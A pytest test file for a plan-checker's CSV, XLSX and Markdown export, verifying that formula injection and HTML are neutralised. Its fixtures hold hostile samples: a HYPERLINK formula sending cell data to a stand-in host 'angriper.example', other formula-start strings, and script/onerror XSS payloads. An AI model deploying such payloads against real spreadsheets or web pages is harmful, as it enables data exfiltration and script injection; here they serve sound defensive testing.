"""assistant/checker/export.py: document text never leaves as code (OWASP CSV injection, HTML in
Markdown), read back with the real csv module, openpyxl and a Markdown renderer."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt
from openpyxl import load_workbook

from assistant.checker import export
from assistant.checker.models import CheckResult, Evidence, Goal, GoalCheck, PlanCheck, SummaryRow, ThemeEntry, ThemeGroup
from assistant.models import DocumentMeta

FORMULA = '=HYPERLINK("http://angriper.example/?d="&A1,"Klikk")'
HOSTILE = [FORMULA, "+1+2", "-2+3", "@SUM(A1:A2)", "\t=1+1", "\r=1+1"]
HTML = '<script>alert(1)</script><img src=x onerror="alert(2)">'


def _result() -> CheckResult:
    meta = DocumentMeta(doc_id="d", source="=ond.txt", title=FORMULA, municipality="@Kommune")
    goals = [GoalCheck(Goal(text, page=1, section="-seksjon"), measures=[Evidence("+tiltak")],
                       target_values=["=2+2"], themes=["mobbing"]) for text in HOSTILE]
    goals.append(GoalCheck(Goal(f"Mål med {HTML}", section=HTML), measures=[Evidence(HTML)]))
    summary = [SummaryRow("=ond.txt", FORMULA, "@Kommune", len(goals), 1, 0, 0)]
    themes = [ThemeGroup("mobbing", [ThemeEntry(meta, goals[0])])]
    return CheckResult(plans=[PlanCheck(meta, goals=goals)], summary=summary, themes=themes)


@pytest.mark.parametrize("value", HOSTILE)
def test_safe_cell_neutralises_every_formula_start(value: str):
    assert export.safe_cell(value) == "'" + value
    assert export.safe_cell("Trygg tekst – 5 %") == "Trygg tekst – 5 %" and export.safe_cell(-3) == -3


def test_csv_cells_never_start_a_formula():
    rows = list(csv.reader(io.StringIO(export.to_csv(_result()))))
    cells = [c for row in rows[1:] for c in row if c]
    assert cells and not [c for c in cells if c.startswith(export.FORMULA_START)]
    assert "'" + FORMULA in cells and "'=ond.txt" in cells and "'@Kommune" in cells


def test_xlsx_has_no_formulas_and_no_cell_starting_one(tmp_path: Path):
    path = tmp_path / "sjekk.xlsx"
    export.to_xlsx(_result(), path)
    wb = load_workbook(path)
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    values.append(cell.value)
    assert "'" + FORMULA in values and "'\t=1+1" in values
    assert not [v for v in values if v.startswith(export.FORMULA_START)]


def test_markdown_escapes_html_from_documents():
    rendered = MarkdownIt("commonmark").enable("table").render(export.to_markdown(_result()))
    assert "<script>" not in rendered and "<img" not in rendered
    assert "&lt;script&gt;" in rendered


def test_write_exports_writes_the_three_files(tmp_path: Path):
    files = export.write_exports(_result(), tmp_path / "ut")
    assert files.csv.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    assert files.markdown.read_text(encoding="utf-8").startswith("# Målsjekk")
    assert load_workbook(files.xlsx).sheetnames[0] == "Sammendrag"
